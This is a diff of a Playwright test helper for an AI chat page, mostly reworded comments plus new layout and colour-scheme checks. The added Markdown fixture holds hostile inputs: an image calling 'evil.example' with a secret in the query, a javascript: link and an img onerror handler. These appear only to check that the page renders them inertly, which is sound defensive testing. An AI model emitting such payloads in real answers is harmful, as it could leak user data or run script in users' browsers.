@@ -1,4 +1,4 @@
-// The quickstart's page in headless Chromium, watched: what it logs, what it asks for, and how it looks.
+// The page of the quickstart in headless Chromium. The suite records what the page logs and requests.
 
 import assert from 'node:assert/strict';
 import { mkdir } from 'node:fs/promises';
@@ -8,7 +8,7 @@ import { chromium } from 'playwright-core';
 
 const OUT = fileURLToPath(new URL('./out/', import.meta.url));
 
-// Without these Chromium asks its maker's servers for updates and settings at every start.
+// Without these flags, Chromium requests updates and settings from its vendor at every start.
 const QUIET = [
   '--disable-gpu',
   '--disable-quic',
@@ -18,7 +18,7 @@ const QUIET = [
   '--disable-sync',
 ];
 
-/** `hosts`: names that are to be found at an address, as in `MAP evil.test 127.0.0.1`. */
+/** `hosts`: rules that map names to addresses, as in `MAP evil.test 127.0.0.1`. */
 export async function openBrowser(hosts = '') {
   return chromium.launch({
     executablePath: process.env.CHROMIUM_BIN ?? '/usr/bin/chromium',
@@ -29,8 +29,8 @@ export async function openBrowser(hosts = '') {
 }
 
 /**
- * Starts an app and a browser for the tests of one file. Gives the function that adds a test: each has a page of its own,
- * which must have stayed clean.
+ * Starts an app and a browser for the tests of one file. Returns a function that adds a test. Each test has its own page,
+ * which must log no error.
  */
 export function suiteOn(start) {
   let app;
@@ -56,7 +56,7 @@ export function suiteOn(start) {
     });
 }
 
-/** Opens the page of an app in a browser context of its own. `ms`: how long an answer may take. */
+/** Opens the page of an app in its own browser context. `ms`: the longest time for an answer. */
 export async function openPage(browser, app, ms = 15_000) {
   const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
   const page = await context.newPage();
@@ -83,9 +83,9 @@ export async function openPage(browser, app, ms = 15_000) {
     page,
     /** The bodies that the page posted to the assistant. */
     runs,
-    /** The paths that it posted to below the assistant's. */
+    /** The paths below the assistant's that the page posted to. */
     stops,
-    /** What it logged that it should not. */
+    /** The errors and warnings in the log of the page. */
     problems,
     answer: () => answers.last(),
     answers,
@@ -94,7 +94,7 @@ export async function openPage(browser, app, ms = 15_000) {
       await page.fill('#chat-input', question);
       await page.click('#chat-send');
     },
-    /** Waits until the run is over, one way or another. */
+    /** Waits until the run has ended or failed. */
     async settled() {
       await page.waitForFunction(() => ['ready', 'error'].includes(document.querySelector('#chat').dataset.status));
     },
@@ -107,7 +107,7 @@ export async function openPage(browser, app, ms = 15_000) {
       await mkdir(OUT, { recursive: true });
       await page.screenshot({ path: `${OUT}${name}.png` });
     },
-    /** Closes the page; fails if it logged an error or asked anyone but its own server. */
+    /** Closes the page. Fails if it logged an error or sent a request to another server. */
     async close() {
       await context.close();
       assert.deepEqual(problems, [], 'the page logs no error');
@@ -116,5 +116,56 @@ export async function openPage(browser, app, ms = 15_000) {
   };
 }
 
-/** The text that the assistant wrote: neither reasoning nor what the tools show. */
+/** An answer with every kind of Markdown, an image that would tell another server something, and links. */
+export const MARKDOWN = `# A title
+
+Some **bold** text and \`code\`.
+
+- one
+- two
+
+| Name | Sum |
+|---|---|
+| Ada | 12 |
+
+[A site](https://example.com/x) ![chart](https://evil.example/p.png?secret=1) [script](javascript:document.title="pwned")
+<img src="https://evil.example/q.png" onerror="document.title='pwned'">`;
+
+/** Checks that an answer shows `MARKDOWN` as elements, and that nothing in it is loaded or run. */
+export async function showsMarkdown(view, answer) {
+  const count = (selector) => answer.locator(selector).count();
+  await answer.getByText('A site').waitFor();
+  assert.equal(await count('strong, [data-streamdown=strong]'), 1);
+  assert.deepEqual([await count('li'), await count('td')], [2, 2]);
+  assert.doesNotMatch(await answer.innerText(), /\*\*|\|---/);
+  assert.equal(await count('img[src*="evil"]'), 0, 'no image of another server');
+  assert.equal(await count('a[href^="javascript"]'), 0);
+  assert.notEqual(await view.page.title(), 'pwned');
+  assert.match(await answer.innerText(), /evil\.example/, 'the target of the image is visible');
+}
+
+/** Checks the page on a phone: nothing is wider than the screen, and `element` is on it. */
+export async function fitsPhone(view, element) {
+  const box = await element.boundingBox();
+  assert.ok(box && box.x >= 0 && box.x + box.width <= 375 && box.y >= 0 && box.y + box.height <= 667, JSON.stringify(box));
+  assert.equal(await view.page.evaluate(() => document.documentElement.scrollWidth), 375);
+}
+export const PHONE = { width: 375, height: 667 };
+
+/** The lightness of the background of a page, from 0 to 1. */
+export const lightness = (view) =>
+  view.page.evaluate(() => {
+    const ground = getComputedStyle(document.documentElement).backgroundColor.match(/\d+/g);
+    return ground.slice(0, 3).reduce((sum, part) => sum + Number(part), 0) / 765;
+  });
+
+/** Checks that the page follows the colour scheme of the system. */
+export async function followsColourScheme(view) {
+  await view.page.emulateMedia({ colorScheme: 'light' });
+  assert.ok((await lightness(view)) > 0.8);
+  await view.page.emulateMedia({ colorScheme: 'dark' });
+  assert.ok((await lightness(view)) < 0.2);
+}
+
+/** The text of the assistant, without reasoning and tools. */
 export const prose = async (answer) => (await answer.locator('[data-part=text]').allInnerTexts()).join('\n');
